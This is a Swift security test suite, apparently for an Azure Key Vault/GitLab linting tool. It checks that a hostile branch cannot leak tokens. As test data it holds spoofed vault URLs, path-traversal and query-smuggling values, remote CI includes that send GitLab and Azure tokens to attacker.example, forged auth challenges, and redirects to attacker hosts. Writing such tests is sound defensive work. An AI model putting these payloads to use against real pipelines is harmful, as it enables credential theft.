#if Live && Sandbox
@testable import AzureSandbox
import Testing

extension SandboxTests {
  /// The attacks of an author who can change everything in a branch and wants a token.
  @Suite("A hostile branch") struct ThreatTests {
    /// One attempt.
    struct Attempt: Sendable, CustomTestStringConvertible {
      let testDescription: String
      var pipeline = Stage.pipeline
      var configuration = Stage.configuration
      var change: @Sendable (inout SandboxSetup) -> Void = { _ in }
    }

    /// Texts for `AZURE_KEY_VAULT_SERVER_URL` that look like a vault's.
    static let vaults = [
      "https://acme-shop.vault.azure.net.evil.example", "https://evilvault.azure.net",
      "https://vault.azure.net", "https://acme-shop.vault.azure.net:8443",
      "https://acme-shop.vault.azure.net@attacker.example",
      "https://user:password@attacker.example/.vault.azure.net",
      "https://attacker.example#.vault.azure.net", "https://attacker.example?.vault.azure.net",
      "https://attacker.example\\\\.vault.azure.net", "https://acme-shop.vault.azure.net./",
      "https://ACME-SHOP.VAULT.AZURE.NET.attacker.example", "http://acme-shop.vault.azure.net",
      "https://аcme-shop.vault.azure.net", "https://acme%2eshop.vault.azure.net",
      "https://attacker.example/%2e%2e/acme-shop.vault.azure.net", "//attacker.example",
      "https://127.0.0.1", "https://[::1]", "https://attacker.example/x.vault.azure.net",
    ]

    static let attempts: [Attempt] =
      vaults.map { url in
        Attempt(
          testDescription: "the vault \(url)",
          pipeline: "variables: {AZURE_KEY_VAULT_SERVER_URL: \"\(url)\"}\n\(Stage.pipeline)"
        )
      } + [
        Attempt(
          testDescription: "the instance and project of the configuration",
          configuration: """
            gitlab:
              url: https://attacker.example
              project: evil/shop
            """
        ),
        Attempt(
          testDescription: "the tenant is a path",
          pipeline: "variables: {AZURE_TENANT_ID: \"../attacker.example\"}\n\(Stage.pipeline)"
        ),
        Attempt(
          testDescription: "the client is a query",
          pipeline: """
            variables: {AZURE_CLIENT_ID: "x')?$expand=https://attacker.example&y=('"}
            \(Stage.pipeline)
            """
        ),
        Attempt(
          testDescription: "the secret's name is a path",
          pipeline: Stage.pipeline.replacing(
            "database-password",
            with: "\"../../../attacker.example/x?\""
          )
        ),
        Attempt(
          testDescription: "includes from everywhere",
          pipeline: """
            include:
              - remote: https://attacker.example/x.yml?token=$AKVLINT_GITLAB_TOKEN$AZURE_JWT
              - remote: https://user:password@attacker.example/x.yml
              - component: attacker.example/evil/component@1.0.0
              - {project: "../../attacker.example", file: x.yml, ref: "$AZURE_JWT"}
              - {template: "../../../x.gitlab-ci.yml"}
            \(Stage.pipeline)
            """
        ),
        Attempt(
          testDescription: "the operator's tokens as ID tokens",
          pipeline: """
            steal:
              rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}]
              script: x
              id_tokens:
                AKVLINT_AZURE_TOKEN_VAULT: {aud: https://gitlab.example.com}
              secrets:
                PASSWORD:
                  azure_key_vault: {name: database-password}
                  token: $AKVLINT_AZURE_TOKEN_VAULT
            """
        ),
        Attempt(testDescription: "a challenge that names another authority") { scenario in
          scenario.vaults[0].challenge =
            "Bearer authorization=\"https://attacker.example/\(Stage.tenant)\", "
            + "resource=\"https://vault.azure.net\""
        },
        Attempt(testDescription: "a challenge for another resource") { scenario in
          scenario.vaults[0].challenge =
            "Bearer authorization=\"https://login.microsoftonline.com/\(Stage.tenant)\", "
            + "resource=\"https://attacker.example\""
        },
        Attempt(testDescription: "redirects everywhere") { scenario in
          scenario.faults = [
            "gitlab.example.com", "login.microsoftonline.com", "graph.microsoft.com",
            "acme-shop.vault.azure.net",
          ].map { Fault(host: $0, kind: .redirect("https://attacker.example/")) }
        },
        Attempt(testDescription: "links to the next page") { scenario in
          scenario.faults = [
            ("acme-shop.vault.azure.net", "/secrets/database-password/versions?"),
            ("graph.microsoft.com", "/beta/applications"),
          ].map { host, path in
            Fault(
              host: host,
              path: path,
              kind: .foreignLink("https://\(host).attacker.example/next")
            )
          }
        },
      ]

    @Test("gets no byte of a token", arguments: attempts)
    func noToken(_ attempt: Attempt) async throws {
      var scenario = Stage.scenario
      attempt.change(&scenario)
      let files = [".gitlab-ci.yml": attempt.pipeline, ".akvlint.yml": attempt.configuration]
      for live in ["--live", "--live=gitlab,entra,vault"] {
        let outcome = try await Stage.run(scenario, files: files, arguments: [live, "-v"])
        #expect(outcome.status != 2, "\(outcome.errors)")
        for request in outcome.requests { expectNothingStolen(request, scenario) }
      }
    }

    /// Every credential may go to one place.
    private func expectNothingStolen(_ request: SandboxRequest, _ scenario: SandboxSetup) {
      let isGitLab = request.host == "gitlab.example.com"
      #expect(request.headers["private-token"] == nil || isGitLab)
      if let bearer = request.bearer {
        let audience = Claims(unverified: bearer)?.audience
        switch audience {
        case "https://graph.microsoft.com": #expect(request.host == "graph.microsoft.com")
        case "https://management.azure.com": #expect(request.host == "management.azure.com")
        case "https://vault.azure.net": #expect(request.host == "acme-shop.vault.azure.net")
        default: Issue.record("a token for \(audience ?? "nobody") went to \(request.host)")
        }
      }
      if let assertion = request.form["client_assertion"] {
        #expect(request.host == "login.microsoftonline.com")
        // Only the tokens that GitLab gave this job.
        #expect(Claims(unverified: assertion)?.iss == "https://gitlab.example.com")
      }
      // Nor anywhere else in a request.
      #expect(!request.target.contains("eyJ") && !request.target.contains("glpat-"))
      var rest = request.headers
      rest["authorization"] = nil
      rest["private-token"] = nil
      #expect(!rest.values.contains { $0.contains("eyJ") || $0.contains("glpat-") })
      if request.form["client_assertion"] == nil {
        let body = String(decoding: request.body, as: UTF8.self)
        #expect(!body.contains("eyJ") && !body.contains("glpat-"))
      }
    }
  }
}
#endif
